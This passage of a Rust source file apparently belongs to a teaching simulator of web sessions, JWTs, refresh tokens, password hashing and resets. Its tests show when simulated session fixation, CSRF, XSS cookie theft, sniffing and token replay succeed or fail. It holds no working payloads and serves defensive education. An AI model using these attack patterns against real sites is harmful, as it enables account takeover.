                            self.t.steps.push(Step { at: SimTime(self.at), arrives: None, kind: StepKind::Local, from: laptop, to: laptop, label: "the attacker's session id is planted".into(), fields: vec![field(self.cookie_name(), short(&sid), "the attacker knows this id")], bytes: Vec::new(), bytes_label: String::new(), states: vec![StateChange { actor: laptop, before, after }], explanation: "The attacker makes Alice's browser hold their session id: a link the app accepts with the id in it, or a cookie set by a sibling subdomain they control. The id is anonymous for now.".into(), spec: Vec::new() });
                            self.at += 1000;
                            self.stolen = Some((self.cookie_name().to_string(), sid));
                            self.t.summary.push("Fixation: the attacker's anonymous session id is planted in Alice's browser.".into());
                        }
                        None => {
                            self.local(laptop, "nothing to plant", Vec::new(), "The app gave the attacker no session id before sign-in, so there is none to plant.".into());
                            self.t.summary.push("Fixation: the app issues no id before sign-in, so there is none to plant.".into());
                        }
                    }
                }
            }
            if self.pending {
                break;
            }
            self.at += 100_000;
        }
    }
}

fn capitalised(s: &str) -> String {
    let mut c = s.chars();
    c.next().map(|f| f.to_uppercase().collect::<String>() + c.as_str()).unwrap_or_default()
}

fn short(v: &str) -> String {
    let v = crate::export::visible(v);
    if v.chars().count() > 48 {
        format!("{}…", v.chars().take(47).collect::<String>())
    } else {
        v
    }
}

/// `"key":"value"` in a small flat JSON object the app wrote itself.
fn json_str(json: &str, key: &str) -> Option<String> {
    let v: serde_json::Value = serde_json::from_str(json).ok()?;
    v.get(key)?.as_str().map(String::from)
}

fn json_num(json: &str, key: &str) -> Option<u64> {
    let v: serde_json::Value = serde_json::from_str(json).ok()?;
    v.get(key)?.as_u64()
}

/// Runs the sessions part with Alice's passwords.
pub fn run(s: &SessionScenario, passwords: Passwords) -> Trace {
    let title = match s.mode {
        Mode::Sessions => "Sessions: a cookie with an id, the session on the server",
        Mode::Jwt => "Sessions with a signed token in the cookie (a JWT)",
        Mode::Tokens => "Sign-in with a short-lived access token and a refresh token",
    };
    let t = Trace::new("cookies", title, vec![Actor { id: "laptop".into(), name: "Alice's laptop".into(), detail: "a browser".into() }, Actor { id: "app".into(), name: "app.example".into(), detail: "the app".into() }]);
    let mut app = App { s: s.clone(), t, rng: SplitMix64::new(2026), at: 0, jars: Default::default(), store: Vec::new(), stolen: None, last_laptop: None, store_actor: None, evil_actor: None, answer_spec: Vec::new(), scheme: Scheme::parse(&s.hash).unwrap_or(Scheme::RECOMMENDED[0]), current: passwords.password.into(), first: passwords.password.into(), new_password: passwords.new_password.into(), users_table: false, mail: None, outbox: None, pending: false };
    let events = parse_events(&s.events).unwrap_or_default();
    app.users_table = events.iter().any(|e| matches!(e, Event::Register(..)));
    app.run(&events);
    let mut t = app.t;
    if !app.pending {
        let end = match s.mode {
            Mode::Jwt if app.store.is_empty() => "The app holds nothing: every token it issued stays valid until its exp.".into(),
            Mode::Jwt => "The app keeps no sessions (only accounts): every token it issued stays valid until its exp.".into(),
            _ => format!("The store holds {} key{} at the end.", app.store.len(), if app.store.len() == 1 { "" } else { "s" }),
        };
        t.summary.push(end);
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    const PW: Passwords = Passwords { password: "correct horse battery staple", new_password: "vanilla otter lantern 9" };

    fn summary(s: &SessionScenario) -> String {
        run(s, PW).summary.join("\n")
    }

    #[test]
    fn logout_ends_the_session_and_everywhere_ends_them_all() {
        let s = summary(&SessionScenario::default());
        assert!(s.contains("laptop: GET /account: 200, /account: alice's page."), "{s}");
        assert!(s.contains("laptop: GET /account: 401, Sign in first: no session cookie came with the request."), "{s}");
        assert!(s.contains("phone: GET /account: 200"), "{s}");
        assert!(s.contains("phone: sign out everywhere: 200, Signed out of 1 session"), "{s}");
        assert!(s.contains("The store holds 0 keys at the end."), "{s}");
    }

    #[test]
    fn fixation_works_only_without_rotation() {
        let events = "fixate\nlaptop: login alice\nreplay".to_string();
        let fixed = summary(&SessionScenario { events: events.clone(), ..Default::default() });
        assert!(fixed.contains("Replay of the stolen cookie: 401"), "{fixed}");
        let open = summary(&SessionScenario { events, rotate_on_login: false, ..Default::default() });
        assert!(open.contains("Replay of the stolen cookie: 200"), "{open}");
    }

    #[test]
    fn csrf_is_stopped_by_samesite_or_the_token() {
        let events = "laptop: login alice\ncsrf POST /transfer\ncsrf GET /transfer".to_string();
        let lax = summary(&SessionScenario { events: events.clone(), csrf_token: false, ..Default::default() });
        assert!(lax.contains("CSRF from evil.example (POST /transfer): 401"), "{lax}");
        assert!(lax.contains("CSRF from evil.example (GET /transfer): 200"), "Lax lets a top-level GET through: {lax}");
        let none = summary(&SessionScenario { events: events.clone(), csrf_token: false, cookie: "Path=/; Secure; HttpOnly; SameSite=None".into(), ..Default::default() });
        assert!(none.contains("CSRF from evil.example (POST /transfer): 200"), "{none}");
        let token = summary(&SessionScenario { events, cookie: "Path=/; Secure; HttpOnly; SameSite=None".into(), ..Default::default() });
        assert!(token.contains("CSRF from evil.example (POST /transfer): 403"), "{token}");
    }

    #[test]
    fn xss_needs_no_httponly_and_sniffing_needs_http() {
        let events = "laptop: login alice\nlaptop: get /account\nxss\nsniff\nreplay".to_string();
        let safe = summary(&SessionScenario { events: events.clone(), ..Default::default() });
        assert!(safe.contains("Replay: the attacker had nothing."), "{safe}");
        let xss = summary(&SessionScenario { events: events.clone(), cookie: "Path=/; Secure; SameSite=Lax".into(), ..Default::default() });
        assert!(xss.contains("XSS on the laptop: the session cookie was read"), "{xss}");
        assert!(xss.contains("Replay of the stolen cookie: 200"), "{xss}");
        let sniff = summary(&SessionScenario { events, cookie: "Path=/; HttpOnly; SameSite=Lax".into(), https: false, ..Default::default() });
        assert!(sniff.contains("the session cookie was read off the wire"), "{sniff}");
    }

    #[test]
    fn a_token_survives_logout() {
        let events = "laptop: login alice\nxss\nlaptop: logout\nreplay\nwait 20m\nreplay".to_string();
        let s = summary(&SessionScenario { events, mode: Mode::Jwt, cookie: "Path=/; Secure; SameSite=Lax".into(), ..Default::default() });
        let replays: Vec<&str> = s.lines().filter(|l| l.starts_with("Replay")).collect();
        assert!(replays[0].contains(": 200"), "{s}");
        assert!(replays[1].contains(": 401"), "expired after 15 minutes: {s}");
    }

    fn flow(events: &str, tweak: fn(&mut SessionScenario)) -> String {
        let mut s = SessionScenario { events: events.into(), hash: "argon2id m=64 t=1 p=1".into(), ..Default::default() };
        tweak(&mut s);
        summary(&s)
    }

    #[test]
    fn passwords_are_stored_hashed_and_checked() {
        for hash in ["argon2id m=64 t=1 p=1", "bcrypt cost=4", "scrypt ln=4 r=8 p=1", "sha256", "plain"] {
            let mut s = SessionScenario { events: "laptop: register alice\nlaptop: register alice\nlaptop: login alice wrong\nlaptop: login bob\nlaptop: login alice".into(), hash: hash.into(), ..Default::default() };
            let t = run(&s, PW);
            let sum = t.summary.join("\n");
            assert!(sum.contains("register alice: 201") && sum.contains("register alice: 409"), "{hash}: {sum}");
            let logins: Vec<&str> = sum.lines().filter(|l| l.contains("signs in")).collect();
            assert!(logins[0].contains("(401)") && logins[1].contains("(401)") && logins[2].contains("(200)"), "{hash}: {sum}");
            // The stored string is the scheme's own, and holds no password.
            let stored = t.steps.iter().find(|st| st.label.ends_with("hash the password")).map(|st| String::from_utf8_lossy(&st.bytes).to_string()).unwrap();
            let scheme = Scheme::parse(hash).unwrap();
            assert!(crate::cookies::passwords::verify(scheme, &stored, PW.password).unwrap(), "{hash}: {stored}");
            if scheme != Scheme::Plain {
                assert!(!stored.contains(PW.password));
            }
            s.events = "laptop: login alice".into();
            assert!(run(&s, PW).steps.iter().any(|st| st.explanation.contains("does not check the password")), "no accounts: the sign-in says it checks nothing");
        }
    }

    #[test]
    fn a_hash_that_cannot_be_computed_is_a_500_not_a_wrong_password() {
        struct Broken;
        impl crate::ext::Passwords for Broken {
            fn hash(&self, _: Scheme, _: &str, _: &[u8; 16]) -> Option<Result<String, String>> {
                Some(Err("the hashing worker failed (test)".into()))
            }
        }
        // The provider is this test thread's own.
        crate::ext::provide_passwords(std::rc::Rc::new(Broken));
        let s = flow("laptop: register alice\nlaptop: login alice", |_| {});
        assert!(s.contains("register alice: 500, The password could not be stored."), "{s}");
        let t = run(&SessionScenario { events: "laptop: register alice\nlaptop: login alice".into(), hash: "sha256".into(), ..Default::default() }, PW);
        assert!(t.summary.join("\n").contains("alice signs in (200)"), "the fast schemes need no provider");
    }

    #[test]
    fn a_leak_shows_equal_passwords_only_without_a_salt() {
        let events = "laptop: register alice\nphone: register bob\nleak";
        assert!(flow(events, |s| s.hash = "sha256".into()).contains("The store leaks: 2 accounts, 2 sharing a hash."));
        assert!(flow(events, |s| s.hash = "plain".into()).contains("The store leaks: 2 accounts, 2 sharing a hash."));
        assert!(flow(events, |_| {}).contains("The store leaks: 2 accounts, 0 sharing a hash."));
    }

    #[test]
    fn a_reset_link_works_once_in_time_and_ends_the_sessions() {
        let s = flow("laptop: register alice\nphone: login alice\nlaptop: reset alice\nlaptop: use reset link\nlaptop: use reset link\nphone: get /account\nlaptop: login alice old\nlaptop: login alice\nlaptop: reset mallory", |_| {});
        assert!(s.contains("laptop: reset link used: 200") && s.contains("laptop: reset link used: 400"), "{s}");
        assert!(s.contains("phone: GET /account: 401"), "the reset ended the phone's session: {s}");
        assert!(s.contains("(the password from before the reset) (401)") && s.contains("laptop: alice signs in (200)"), "{s}");
        assert!(s.contains("reset link for mallory asked (200), nothing mailed"), "{s}");
        let late = flow("laptop: register alice\nlaptop: reset alice\nwait 16m\nlaptop: use reset link\nlaptop: login alice old", |_| {});
        assert!(late.contains("reset link used: 400") && late.contains("(the password from before the reset) (200)"), "{late}");
    }

    #[test]
    fn refresh_tokens_rotate_and_a_reuse_revokes_them_all() {
        let tokens = |s: &mut SessionScenario| s.mode = Mode::Tokens;
        let s = flow("laptop: register alice\nlaptop: login alice\nwait 16m\nlaptop: get /account\nlaptop: refresh\nlaptop: get /account\nlaptop: logout\nlaptop: refresh", tokens);
        let gets: Vec<&str> = s.lines().filter(|l| l.contains("GET /account")).collect();
        assert!(gets[0].contains("401") && gets[1].contains("200"), "expired, then refreshed: {s}");
        let refreshes: Vec<&str> = s.lines().filter(|l| l.contains(": refresh:")).collect();
        assert!(refreshes[0].contains("200") && refreshes[1].contains("401"), "logout revoked it: {s}");
        let s = flow("laptop: register alice\nlaptop: login alice\nlaptop: refresh\nsniff\nreplay\nlaptop: refresh", |s| {
            s.mode = Mode::Tokens;
            s.https = false;
            s.cookie = "Path=/; HttpOnly".into();
        });
        assert!(s.contains("Replay of the stolen refresh token: 401, Refresh token reused"), "{s}");
        assert!(s.lines().filter(|l| l.contains(": refresh:")).nth(1).is_some_and(|l| l.contains("401")), "every refresh token was revoked: {s}");
    }

    #[test]
    fn sessions_time_out() {
        let s = summary(&SessionScenario { events: "laptop: login alice\nwait 29m\nlaptop: get /account\nwait 29m\nlaptop: get /account\nwait 31m\nlaptop: get /account".into(), ..Default::default() });
        let gets: Vec<&str> = s.lines().filter(|l| l.contains("GET /account")).collect();
        assert!(gets[0].contains("200") && gets[1].contains("200") && gets[2].contains("401"), "{s}");
        let s = summary(&SessionScenario { events: "laptop: login alice\nwait 25m\nlaptop: get /account\nwait 25m\nlaptop: get /account".into(), absolute_s: 3000, ..Default::default() });
        let gets: Vec<&str> = s.lines().filter(|l| l.contains("GET /account")).collect();
        assert!(gets[0].contains("200") && gets[1].contains("401"), "{s}");
    }
}
